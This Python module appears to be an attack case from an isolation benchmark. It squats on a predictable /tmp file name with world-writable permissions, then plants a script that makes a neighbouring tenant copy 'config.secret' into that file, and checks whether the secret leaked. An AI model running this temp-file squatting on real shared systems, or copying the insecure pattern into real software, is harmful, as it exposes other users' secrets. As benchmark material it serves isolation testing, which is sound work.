"""Take a name in /tmp that the neighbour is about to use."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

PRECEDENT = "CWE-377: names in /tmp that others can foresee"


def attack(given: Given) -> object:
    import os

    path = f"/tmp/isobench-squat-{given.port}"
    descriptor = os.open(path, os.O_CREAT | os.O_RDWR, 0o666)
    os.fchmod(descriptor, 0o666)
    os.close(descriptor)
    return "taken"


def proof(scene: Scene) -> str | None:
    name = Path(f"/tmp/isobench-squat-{scene.port}")
    path = scene.inside(name)
    try:
        scene.put(
            "uses_tmp.py",
            f"with open('config.secret') as file, open({str(name)!r}, 'w') as temporary:\n"
            "    temporary.write(file.read())\n"
            "print('Content-Type: text/plain\\n\\nkept')\n",
        )
        scene.visit("uses_tmp.py")
        if not path.exists() or path.stat().st_uid == scene.neighbour_uid:
            return None
        if scene.secret in path.read_text():
            return "the neighbour wrote its secret into a file of the attacker's"
        return None
    finally:
        path.unlink(missing_ok=True)
